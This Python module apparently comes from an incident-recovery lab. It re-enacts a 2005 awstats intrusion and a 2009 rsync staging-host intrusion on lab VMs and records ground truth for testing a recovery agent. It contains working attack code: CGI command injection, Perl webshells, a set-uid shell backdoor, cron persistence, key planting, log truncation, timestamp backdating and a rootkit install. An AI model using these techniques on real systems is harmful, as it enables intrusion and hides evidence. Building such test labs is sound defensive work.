"""The two seed incidents re-enacted on the lab fleet, each leaving a ground-truth file.

``awstats_2005`` enters a web server the way the 2005 intruder did: shell
commands through the stats CGI's ``configdir`` parameter, over HTTP on the
guest's forwarded port. From there it becomes root through the box's
unpatched local hole and installs a "telnetd" backdoor (a set-uid shell), a
webshell in cgi-bin, a cron job, an extra authorized_keys line, backdates its
files with ``touch -d`` and truncates the logs.

``rsync_2009`` logs in to the staging host ``people`` with the stolen backup
key, adds CGI scripts to the web roots there, and lets the scheduled rsync
carry them to both web servers; the intruder then uses one on us-web only
(the EU server received the scripts but never ran them).

Both take the periodic snapshot right before (clean) and right after (dirty)
the intrusion, then the fleet goes on with its ordinary work and snapshots,
so the newest snapshot is dirty and an older one is clean. The payloads are
inert: nothing scans, listens or phones out.
"""

from __future__ import annotations

import base64
import re
import urllib.parse
import urllib.request
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from recovery.hostile import for_terminal
from recovery.lab.any_lab import AnyLab
from recovery.lab.fleet_setup import (
    STAGING,
    WEB_HOSTS,
    checked,
    public,
    script,
    www_sync_command,
)
from recovery.lab.ground_truth import ADDED, MODIFIED, GroundTruth
from recovery.lab.history import auto_snapshot, tick
from recovery.lab.vm import Guest
from recovery.transport.ssh import SshSession, SshTarget

SEED_2005 = "2005-where-the-site-went.txt"
SEED_2009 = "2009-apache-org-incident-report.md"
LOCAL_ROOT_HOLE = "/usr/local/libexec/local-root-hole"
HTTP_TIMEOUT = 120.0

TELNETD = "/usr/sbin/telnetd"
WEBSHELL = "/srv/www/cgi-bin/awstatstotals.pl"
CRON_JOB = "/etc/cron.d/awstats"
AUTHORIZED_KEYS = "/home/webmaster/.ssh/authorized_keys"
PYTHON3 = "/usr/bin/python3"
#: A line only the wrapper holds: present after a recovery means the rootkit is still there.
ROOTKIT_MARK = "# lab rootkit: a python3 that hides"
TRUNCATED_LOGS = ("/var/log/apache2/access.log", "/var/log/apache2/error.log", "/var/log/wtmp")

_WEBSHELL = r"""#!/usr/bin/perl
# awstatstotals
print "Content-Type: text/plain\r\n\r\n";
my $q = $ENV{QUERY_STRING} // '';
if ($q =~ /(?:^|&)c=([^&]*)/) { (my $c = $1) =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/ge; print `$c 2>&1`; }
"""
_CRON_JOB = "# awstats\n*/10 * * * * root [ -x /usr/sbin/telnetd ] && /usr/sbin/telnetd -p -c 'exit 0'\n"

_POST_SHELL = r"""#!/usr/bin/perl
# mirror selection
print "Content-Type: text/plain\r\n\r\n";
if (($ENV{REQUEST_METHOD} // '') eq 'POST') { read(STDIN, my $c, $ENV{CONTENT_LENGTH} // 0); print `$c 2>&1`; }
else { print "closest mirror: http://www.lab.test/dist/\n"; }
"""
_HTACCESS = "Options +ExecCGI\nAddHandler cgi-script .cgi\n"
STAGED_SCRIPTS = {
    "/srv/www/cgi-bin/mirrors.cgi": (_POST_SHELL, "CGI remote shell (HTTP POST)"),
    "/srv/www/htdocs/.htaccess": (_HTACCESS, "turns on CGI in the document root"),
    "/srv/www/htdocs/closer.cgi": (_POST_SHELL, "CGI remote shell in the document root"),
}


class AttackError(Exception):
    """A step of an attack did not have the effect it needs; the lab is not in the seed's state."""


# -- 2005: awstats ------------------------------------------------------------


def awstats_2005(lab: AnyLab, host: str = "eu-web") -> Path:
    """Re-enact seed 1 on ``host`` through its stats CGI; returns the ground-truth file."""
    return _awstats(lab, host, GroundTruth("awstats-2005", SEED_2005), rootkit=False)


def rootkit(lab: AnyLab, host: str = "eu-web") -> Path:
    """Seed 1 with the rootkit the 2005 intruder also installed: the host's python3 becomes a
    wrapper that hides the intruder's files from the recovery agent's ``zfs diff``. Recovered from
    the rescue image it is found and removed; through the host's own single-user mode it is not."""
    return _awstats(lab, host, GroundTruth("rootkit", SEED_2005), rootkit=True)


def _awstats(lab: AnyLab, host: str, truth: GroundTruth, rootkit: bool) -> Path:
    lab.require_running()
    guest = lab.guest(host)
    _refuse_if_present(lab, host, (TELNETD, WEBSHELL, CRON_JOB))
    truth.host(host).snapshot_before = auto_snapshot(lab, host)

    _expect(_cgi(guest, "id;uname -a"), "uid=33(www-data)", "command through awstats.pl")
    truth.action(host, "GET /cgi-bin/awstats.pl?configdir=|id;uname -a;# (www-data)")
    _expect(_as_root(guest, "id"), "euid=0(root)", "local root hole")
    truth.action(host, f"became root through {LOCAL_ROOT_HOLE}")
    _install_backdoor(guest, truth, host)
    _plant(guest, truth, host, WEBSHELL, _WEBSHELL, "755", "webshell", like="/srv/www/cgi-bin/awstats.pl")
    _plant(guest, truth, host, CRON_JOB, _CRON_JOB, "644", "cron persistence", like="/etc/crontab")
    _add_key(guest, truth, host, public(lab.fleet_keys().intruder))
    _expect(_http(guest, f"/cgi-bin/{WEBSHELL.rsplit('/', 1)[1]}?c=id"), "uid=33(www-data)", "webshell")
    truth.action(host, f"GET {WEBSHELL.removeprefix('/srv/www')}?c=id (webshell used)")
    _truncate_logs(guest, truth, host)
    if rootkit:
        _install_rootkit(guest, truth, host)

    truth.host(host).snapshot_after = auto_snapshot(lab, host)
    tick(lab)
    return truth.write(lab.ground_truth_dir)


def _refuse_if_present(lab: AnyLab, host: str, paths: tuple[str, ...]) -> None:
    """A second run on a host that still holds the files would overwrite them and make the
    ground truth wrong (they would not be new); recover the host or start a fresh lab first."""
    guest = lab.guest(host)
    found = checked(guest, guest.run(" ; ".join(f"test -e {p} && echo {p}" for p in paths) + " ; true"), "checking")
    if found.stdout.strip():
        raise AttackError(
            f"{host} still holds files of this attack ({', '.join(for_terminal(found.stdout).split())}); "
            "recover it, or start a fresh lab with `recover lab down --wipe` and `recover lab up`"
        )


def _cgi(guest: Guest, command: str) -> str:
    """Run a shell command as the web server through awstats.pl's configdir (CVE-2005-0116 style)."""
    value = urllib.parse.quote(f"|{command};#", safe="")
    return _http(guest, f"/cgi-bin/awstats.pl?config=www&configdir={value}")


def _as_root(guest: Guest, script: str) -> str:
    """A root shell script through the CGI and the local root hole (sent base64, no quoting games)."""
    encoded = base64.b64encode(script.encode()).decode()
    return _cgi(guest, f"echo {encoded}|base64 -d|{LOCAL_ROOT_HOLE} -p 2>&1")


def _http(guest: Guest, path: str, body: bytes | None = None) -> str:
    url = f"{guest.web_url}{path}"
    with urllib.request.urlopen(url, data=body, timeout=HTTP_TIMEOUT) as response:
        return response.read(1 << 20).decode("utf-8", errors="replace")


def _expect(output: str, needle: str, step: str) -> str:
    if needle not in output:
        raise AttackError(f"{step}: expected {needle!r} in the answer, got: {for_terminal(output, 1500)}")
    return output


def _mtime(output: str, path: str) -> str:
    match = re.search(rf"^MTIME {re.escape(path)} (.+)$", output, re.MULTILINE)
    if not match:
        raise AttackError(f"no modification time reported for {path}: {for_terminal(output, 1500)}")
    return match.group(1).strip()


def _report(path: str) -> str:
    return f"echo MTIME {path} $(date -r {path} '+%F %T %z')"


def _install_backdoor(guest: Guest, truth: GroundTruth, host: str) -> None:
    """The "telnet daemon": a set-uid root copy of the shell, backdated like its neighbours."""
    out = _as_root(guest, f"""set -e
cp /bin/bash {TELNETD}
chmod 4755 {TELNETD}
touch -d "$(date -r /usr/sbin/sshd '+%F %T')" {TELNETD}
{_report(TELNETD)}""")
    truth.changed(host, TELNETD, ADDED, "telnetd backdoor (set-uid root shell)", mtime=_mtime(out, TELNETD))


def _install_rootkit(guest: Guest, truth: GroundTruth, host: str) -> None:
    """The python3 symlink replaced by the hiding wrapper (``files/rootkit-python3.py``)."""
    encoded = base64.b64encode(script("rootkit-python3.py").encode()).decode()
    _expect(_as_root(guest, f"""set -e
echo {encoded} | base64 -d >{PYTHON3}.new
chmod 755 {PYTHON3}.new
mv -f {PYTHON3}.new {PYTHON3}
echo ROOTKIT"""), "ROOTKIT", "installing the python3 wrapper")
    truth.changed(host, PYTHON3, MODIFIED, "python3 replaced by a wrapper that hides the intruder's files",
                  marker=ROOTKIT_MARK)


def _plant(guest: Guest, truth: GroundTruth, host: str, path: str, content: str, mode: str, what: str,
           like: str) -> None:  # fmt: skip
    """Write a file as root and backdate it to the mtime of a legitimate file beside it."""
    encoded = base64.b64encode(content.encode()).decode()
    out = _as_root(guest, f"""set -e
echo {encoded} | base64 -d >{path}
chmod {mode} {path}
touch -d "$(date -r {like} '+%F %T')" {path}
{_report(path)}""")
    truth.changed(host, path, ADDED, what, mtime=_mtime(out, path))


def _add_key(guest: Guest, truth: GroundTruth, host: str, key: str) -> None:
    """An extra authorized_keys line for the site owner's account, the old mtime put back."""
    out = _as_root(guest, f"""set -e
stamp=$(date -r {AUTHORIZED_KEYS} '+%F %T.%N')
echo '{key}' >>{AUTHORIZED_KEYS}
touch -d "$stamp" {AUTHORIZED_KEYS}
{_report(AUTHORIZED_KEYS)}""")
    truth.changed(host, AUTHORIZED_KEYS, MODIFIED, "intruder's key added", mtime=_mtime(out, AUTHORIZED_KEYS),
                  marker=key.split()[1])


def _truncate_logs(guest: Guest, truth: GroundTruth, host: str) -> None:
    _expect(_as_root(guest, "".join(f": >{log}\n" for log in TRUNCATED_LOGS) + "echo TRUNCATED"),
            "TRUNCATED", "truncating logs")  # fmt: skip
    for log in TRUNCATED_LOGS:
        truth.changed(host, log, MODIFIED, "log truncated")


# -- 2009: rsync from the staging host ------------------------------------------


def rsync_2009(lab: AnyLab) -> Path:
    """Re-enact seed 2: stolen backup key → people → CGI scripts → scheduled rsync → web servers."""
    lab.require_running()
    truth = GroundTruth("rsync-2009", SEED_2009)
    hosts = (STAGING.name, *(h.name for h in WEB_HOSTS))
    for host in hosts:
        _refuse_if_present(lab, host, tuple(STAGED_SCRIPTS))
    for host in hosts:
        truth.host(host).snapshot_before = auto_snapshot(lab, host)

    with SshSession(_backup_login(lab)) as session:
        _expect(checked_run(session, "id"), "(backup)", "login with the backup key")
        truth.action(STAGING.name, "SSH login as backup with the stolen backup key")
        for path, (content, what) in STAGED_SCRIPTS.items():
            mode = "644" if path.endswith(".htaccess") else "775"
            checked_run(session, f"cat >{path} && chmod {mode} {path}", stdin=content.encode())
            truth.changed(STAGING.name, path, ADDED, what)

    people = lab.guest(STAGING.name)
    checked(people, people.run(www_sync_command(), timeout=300), "scheduled www-sync")
    truth.action(STAGING.name, f"scheduled rsync ran: {www_sync_command()}")
    for host in WEB_HOSTS:
        for path, (_, what) in STAGED_SCRIPTS.items():
            truth.changed(host.name, path, ADDED, f"{what}, carried by www-sync")

    us_web = lab.guest("us-web")
    _expect(_http(us_web, "/cgi-bin/mirrors.cgi", body=b"id"), "uid=33(www-data)", "remote shell on us-web")
    truth.action("us-web", "POST /cgi-bin/mirrors.cgi (remote shell used; never on eu-web)")

    for host in hosts:
        truth.host(host).snapshot_after = auto_snapshot(lab, host)
    tick(lab)
    return truth.write(lab.ground_truth_dir)


ATTACKS: dict[str, Callable[[AnyLab], Path]] = {"awstats-2005": awstats_2005, "rootkit": rootkit,
                                             "rsync-2009": rsync_2009}


def _backup_login(lab: AnyLab) -> SshTarget:
    """The intruder's way in: people's SSH as ``backup`` with the key stolen from the backup source."""
    root = lab.guest(STAGING.name).ssh_target()
    return replace(root, user="backup", key_file=str(lab.fleet_keys().backup))


def checked_run(session: SshSession, command: str, stdin: bytes | None = None) -> str:
    result = session.run(command, timeout=60, stdin=stdin)
    if not result.ok:
        raise AttackError(f"`{command}` failed: {for_terminal(result.stdout + result.stderr)}")
    return result.stdout.decode("utf-8", errors="replace")
